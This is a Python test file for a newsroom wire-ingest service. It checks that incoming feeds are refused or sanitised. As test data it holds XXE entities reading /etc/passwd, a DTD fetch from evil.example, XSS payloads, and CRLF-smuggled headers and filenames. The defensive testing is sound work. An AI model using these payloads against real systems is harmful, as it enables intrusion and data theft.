"""What is sent to harm: each refused or cleaned with a reason, and nothing lost."""

from __future__ import annotations

import json

import pytest
from django.test import Client

from agency import copy, only, rss, rss_item, source
from dateline.desk.models import Story
from dateline.wire.models import Incoming, Reject
from dateline.wire.sources.keeping import reject_file
from dateline.wire.sources.receiving import receive
from dateline.wire.sources.screens.cleaning import cleaned
from dateline.wire.sources.taking import take
from desking import desk_of, person

BOMB = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
ROOTS = {
    "rss": "<rss version='2.0'><channel><item><title>&a;&secret;</title></item></channel></rss>",
    "nitf": "<nitf><body><body.content><p>&a;&secret;</p></body.content></body></nitf>",
    "newsml-g2": "<newsMessage xmlns='http://iptc.org/std/nar/2006-10-01/'/>",
    "newsml-1": "<NewsML><NewsItem/></NewsML>",
}


@pytest.mark.parametrize("root", ROOTS)
@pytest.mark.parametrize(("doctype", "reason"), [
    (BOMB, "declares entities"), (OUTSIDE, "declares entities"),
])
def test_entities_of_its_own_are_refused(house, root, doctype, reason):
    raw = (doctype + ROOTS[root]).encode()
    receipt = receive(source(), raw, name="x.xml")
    assert reason in receipt.refused
    assert reject_file(receipt.digest).read_bytes() == raw and not Incoming.objects.exists()


def test_nothing_is_fetched_for_a_document_type(house):
    raw = (PARAMETER + ROOTS["nitf"].replace("&a;&secret;", "Text.")).encode()
    receive(source(), raw)
    assert "document type names other files, which were not read" in " ".join(only().doubts)


@pytest.mark.parametrize("raw", [
    b"<rss>" + b"<a>" * 500 + b"</a>" * 500 + b"</rss>", b'{"uri":' + b"[" * 100_000,
    b"<" * 1000, b"\x00" * 1000, b"", b"   ", b"\xff\xfe<\x00", b"\x01\x02\x03\x04",
    b"\xff\xd8\xff\xe0JFIF", b"PK\x03\x04zip", b"%PDF-1.7", b"<svg xmlns='x'/>", b"[]", b"{}",
    b"null",
])
def test_what_is_no_copy_is_kept_with_one_line_of_reason(house, raw):
    receipt = receive(source(), raw)
    assert receipt.refused and "\n" not in receipt.refused
    assert reject_file(receipt.digest).read_bytes() == raw
    assert Reject.objects.get().reason == receipt.refused


SCRIPTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>here</a>", "<iframe src='//evil.example'></iframe>",
    "<p onclick=alert(1)>p</p>", "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>b</button></form>", "<math><mtext></p><script>a</script>",
    "<a href='data:text/html,x'>d</a>", "<base href=//evil.example>", "<p style='x:y'>s</p>",
)


@pytest.mark.parametrize("script", SCRIPTS)
def test_no_script_of_a_body_reaches_a_screen_or_a_story(house, script):
    text = f"<p>Ferry runs.</p>{script}"
    receive(source(), copy(body_xhtml=text), name="a")
    receive(only().source, rss(rss_item(text=text)))
    editor = person("editor")
    client = desk_of(editor)
    for row in Incoming.objects.all():
        page = client.get(f"/desk/incoming/{row.pk}/").content.decode()
        body = page[page.index('class="wire-text"'):].partition("</section>")[0]
        for part in ("script", "onerror", "onload", "onclick", "javascript", "evil.example",
                     "<style", "style=", "<form", "<iframe", "data:", "<img", "<base"):
            assert part not in body, part
        assert "Ferry runs." in body
        take(row.pk, by=editor)
    for story in Story.objects.all():
        blocks = json.dumps([vars(block) for block in story.filing().blocks], default=vars)
        assert "javascript" not in blocks and "onerror" not in blocks and "evil" not in blocks


def test_the_screen_cleans_once_more(house):
    for script in SCRIPTS:
        said = cleaned(f"<p>Text.</p>{script}")
        assert "<p>Text.</p>" in said and not {"script", "evil.example", "javascript"} & set(
            said.replace("<", " ").replace(">", " ").split())
    assert cleaned("<a href='https://x.example'>x</a>") == (
        '<a href="https://x.example" rel="noopener noreferrer nofollow">x</a>')


@pytest.mark.parametrize("charset", ["iso-8859-1", "windows-1252", "utf-8", "us-ascii", "x-none"])
def test_broken_charsets_are_read_with_a_doubt(house, charset):
    text = f'<?xml version="1.0" encoding="{charset}"?>' + rss(
        rss_item(title="Fähre fährt")).decode().partition("?>")[2]
    receive(source(), text.encode("windows-1252"))
    row = only()
    assert "F" in row.headline and row.source.rejects.count() == 0
    assert charset in ("iso-8859-1", "windows-1252") or row.headline == "Fähre fährt" or row.doubts


def test_headers_cannot_be_smuggled(house):
    raw = (b"From: a@b.example\nSubject: =?utf-8?q?Fog=0D=0ABcc=3A_all=40x?=\n"
           b"Message-ID: <1@b>\nDate: Mon, 02 Mar 2026 11:00:00 +0000\n\nFog.\n")
    receive(source(), raw)
    assert "\n" not in only().headline and "line break" in " ".join(only().doubts)
    client = desk_of(person("editor"))
    answer = client.get(f"/desk/incoming/{only().pk}/file/")
    assert answer["Content-Type"] == "text/plain; charset=utf-8"
    assert answer["Content-Disposition"] == f'attachment; filename="{only().raw[:16]}.txt"'
    assert "sandbox" in answer["Content-Security-Policy"]
    assert b"".join(answer.streaming_content) == raw


def test_names_of_files_lead_nowhere(house):
    receive(source(), b"nothing", name="../../etc/passwd\r\nX: y")
    client = desk_of(person("chief editor"))
    row = Reject.objects.get()
    answer = client.get(f"/desk/incoming/rejects/{row.pk}/file/")
    assert b"".join(answer.streaming_content) == b"nothing"
    assert "passwd" not in answer["Content-Disposition"]


def test_strangers_see_nothing(house):
    receive(source(), copy())
    stranger = Client(headers={"host": "localhost:8000"})
    for where in ("", f"{only().pk}/", f"{only().pk}/file/", "sources/", "rejects/"):
        assert stranger.get(f"/desk/incoming/{where}").status_code == 302
